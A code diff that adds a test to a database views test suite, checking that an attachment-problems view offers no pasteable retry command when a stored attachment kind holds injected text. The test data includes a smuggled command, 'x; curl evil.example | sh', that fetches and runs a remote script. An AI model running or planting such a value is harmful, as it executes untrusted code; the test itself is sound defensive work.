@@ -259,6 +259,20 @@ describe('the views', () => {
     ).toEqual([{ uploaded: '2026-01-31 10:30:00' }]);
   });
 
+  test('repeat no text of the source in a command that a person may paste', async ({ database }) => {
+    await database.query(`INSERT INTO intake.applications (advertiser_id, application_id, raw, content_hash, observed_seq)
+      VALUES (9, 1, '{}', '\\x00', 1)`);
+    await database.query(`INSERT INTO intake.attachments (advertiser_id, application_id, kind, state, reason) VALUES
+      (9, 1, 'resume', 'given_up', 'r'), (9, 1, 'x; curl evil.example | sh', 'rejected', 'r')`);
+    const next = await database.query<{ kind: string; next: string | null }>(
+      `SELECT kind, next FROM intake_analytics.attachment_problems WHERE advertiser_id = 9 ORDER BY kind`,
+    );
+    expect(next).toEqual([
+      { kind: 'resume', next: 'intake retry --application 1 --kind resume' },
+      { kind: 'x; curl evil.example | sh', next: null },
+    ]);
+  });
+
   test('are described for dbt in their own words', async ({ database }) => {
     await expect(await renderDbtSources(database)).toMatchFileSnapshot(resolve(dbtFile));
   });
